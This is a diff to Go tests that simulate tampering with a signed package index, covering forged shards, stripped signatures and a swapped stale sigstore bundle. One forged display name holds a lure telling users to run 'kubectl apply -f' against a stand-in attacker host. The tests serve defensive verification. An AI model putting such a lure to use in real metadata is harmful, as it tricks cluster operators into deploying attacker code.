@@ -34,23 +34,6 @@ func stripRootSignatures(t *testing.T, site string) {
 	}
 }
 
-// copySite copies the site src to dst (the attacker works on a copy of
-// the published bucket).
-func copySite(t *testing.T, src, dst string) {
-	t.Helper()
-	must(t, filepath.Walk(src, func(p string, fi os.FileInfo, err error) error {
-		if err != nil {
-			return err
-		}
-		rel, _ := filepath.Rel(src, p)
-		if fi.IsDir() {
-			return os.MkdirAll(filepath.Join(dst, rel), 0o755)
-		}
-		copyFile(t, p, filepath.Join(dst, rel))
-		return nil
-	}))
-}
-
 func releaseOf(res *Result, name, version string) *index.Release {
 	for _, s := range res.Shards {
 		if s.Name != name {
@@ -78,7 +61,7 @@ func TestAttackPreviousRewritesReusedFields(t *testing.T) {
 	want := *releaseOf(fresh, "calico", "3.27.0")
 
 	site := filepath.Join(f.tmp, "evil-site")
-	copySite(t, f.published, site)
+	testutil.CopyDir(t, f.published, site)
 	testutil.ForgeShard(t, site, "calico", func(s *index.Shard) {
 		r := &s.Releases[0]
 		r.DisplayName = "Calico (security update: run kubectl apply -f http://evil)"
@@ -155,7 +138,7 @@ func TestAttackPreviousRewritesCarriedFields(t *testing.T) {
 			built(t, oldRepo.Dir, f.published, f.signed)
 
 			site := filepath.Join(f.tmp, "evil-site")
-			copySite(t, f.published, site)
+			testutil.CopyDir(t, f.published, site)
 			testutil.ForgeShard(t, site, "calico", func(s *index.Shard) { tc.edit(t, site, s) })
 			stripRootSignatures(t, site)
 			out, err := f.rebuildAgainst(t, site)
@@ -206,7 +189,7 @@ func TestAttackPreviousStaleBundle(t *testing.T) {
 	commit(t, f.repo, "3.28")
 	built(t, f.repo.Dir, f.published, f.signed)
 	site := filepath.Join(f.tmp, "evil-site")
-	copySite(t, f.published, site)
+	testutil.CopyDir(t, f.published, site)
 	a := filepath.Join(site, "packs/calico/3.27.0/calico-3.27.0.tar.gz.sigstore.json")
 	copyFile(t, filepath.Join(site, "packs/calico/3.28.0/calico-3.28.0.tar.gz.sigstore.json"), a)
 	out, err := f.rebuildAgainst(t, site)
